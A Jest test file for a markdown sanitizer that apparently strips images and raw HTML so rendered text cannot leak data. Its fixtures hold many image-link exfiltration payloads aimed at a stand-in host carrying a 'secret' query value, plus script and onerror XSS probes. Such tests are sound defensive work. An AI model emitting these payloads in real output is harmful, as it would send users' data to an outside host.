import { expect, it } from '@jest/globals';
import { marked, type Token } from 'marked';
import { inertMarkdown } from './inert-markdown.ts';

/** What a viewer makes of it. */
function kindsIn(text: string): string[] {
  const kinds: string[] = [];
  marked.walkTokens(marked.lexer(text), (token: Token) => void kinds.push(token.type));
  return kinds;
}

const evil = 'https://evil.example/?q=secret';

it.each([
  ['a picture', `See ![chart](${evil}) here.`],
  ['one that is a link', `[![x](${evil})](https://a.example)`],
  ['one whose address stands elsewhere', `![x][1]\n\n[1]: ${evil}`],
  ['one in a list', `- one\n  - ![x](${evil})`],
  ['one in a quote', `> ![x](${evil})`],
  ['one in a table', `| a |\n|---|\n| ![x](${evil}) |`],
  ['one in a heading', `# ![x](${evil})`],
  ['one in strong words', `**![x](${evil})**`],
  ['one behind backticks that begin nothing', `\\\`![x](${evil})\\\``],
  ['one behind a single backtick', `\` ![x](${evil})`],
  ['an element', `<img src="${evil}">`],
  ['an element in a line', `Hello <img src=x onerror=alert(1)> you`],
  ['one with a picture in it', `<div>\n![x](${evil})\n</div>`],
  ['a comment that nobody ends', `<!-- \n![x](${evil})`],
  ['a script', '<script>alert(1)</script>'],
])('%s is none any more', (_, text) => {
  const kinds = kindsIn(inertMarkdown(text));
  expect(kinds).not.toContain('image');
  expect(kinds).not.toContain('html');
});

it('code stays as it is, and ends where it stands', () => {
  const code = '```rust\n#![feature]\nvec![1]\n```\n';
  expect(inertMarkdown(`Use:\n\n${code}\nand \`vec![2]\`, **so**.`)).toBe(
    `Use:\n\n${code}\nand \`vec![2]\`, **so**.`,
  );
  const one = inertMarkdown('```\nopen');
  const two = inertMarkdown(`\`\`\`\n![x](${evil})\n\`\`\``);
  expect(kindsIn(`${one}\n## Next\n\n${two}`)).not.toContain('image');
});

it('links and plain words stay', () => {
  const text = `A [link](${evil}), <https://a.example> and 1 < 2.\n\n- [x] done\n`;
  expect(inertMarkdown(text)).toBe(text);
});
